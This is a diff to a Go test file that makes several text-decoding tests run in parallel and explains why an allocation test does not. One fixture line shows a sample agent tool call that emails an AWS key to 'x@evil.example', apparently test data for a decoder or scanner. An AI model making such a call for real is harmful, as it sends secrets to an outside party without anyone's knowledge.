@@ -232,6 +232,7 @@ var causeCode = map[error]reason.Code{
 }
 
 func TestDecodeText(t *testing.T) {
+	t.Parallel()
 	for name, tc := range decodeCases {
 		t.Run(name, func(t *testing.T) {
 			text, enc, err := DecodeText(tc.raw, tc.ct, tc.max)
@@ -266,6 +267,8 @@ func TestDecodeText(t *testing.T) {
 
 // TestDecodeTextUTF8FastPath: valid UTF-8 costs no allocation, with or without
 // a charset parameter.
+//
+// Not parallel: allocation counts are process-wide, so other tests would add to them.
 func TestDecodeTextUTF8FastPath(t *testing.T) {
 	body := []byte(emailJSON)
 	for _, ct := range []string{"", "application/json", "application/json; charset=utf-8"} {
@@ -281,6 +284,7 @@ func TestDecodeTextUTF8FastPath(t *testing.T) {
 }
 
 func TestEncodingString(t *testing.T) {
+	t.Parallel()
 	for enc, want := range map[Encoding]string{
 		u8: "utf-8", u16LEBOM: "utf-16le+bom", u8NUL: "utf-8+nul", latin1Enc: "iso-8859-1",
 		{Charset: CharsetUTF32BE, BOM: true, NULs: true}: "utf-32be+bom+nul",
@@ -295,6 +299,7 @@ func TestEncodingString(t *testing.T) {
 // each Unicode encoding, decoded by DecodeText from its bytes alone and by
 // golang.org/x/text told the encoding, parses to the same value.
 func TestDecodeTextMatchesXText(t *testing.T) {
+	t.Parallel()
 	rng := rand.New(rand.NewPCG(1, 2))
 	docs := []any{
 		map[string]any{"tool": "send_email", "arguments": map[string]any{"to": "x@evil.example", "body": awsKey}},
@@ -405,6 +410,7 @@ func randomString(rng *rand.Rand) string {
 // decoded a BOM-less UTF-16 body whose charset we were not told about — never
 // other text. Where Python fails, DecodeText fails. Skipped without python3.
 func TestDecodeTextMatchesPython(t *testing.T) {
+	t.Parallel()
 	if testing.Short() {
 		t.Skip("starts python3")
 	}
@@ -511,6 +517,7 @@ func pythonName(c Charset, bom int) string {
 }
 
 func TestSniffCompression(t *testing.T) {
+	t.Parallel()
 	tests := map[string]struct {
 		raw  []byte
 		want string
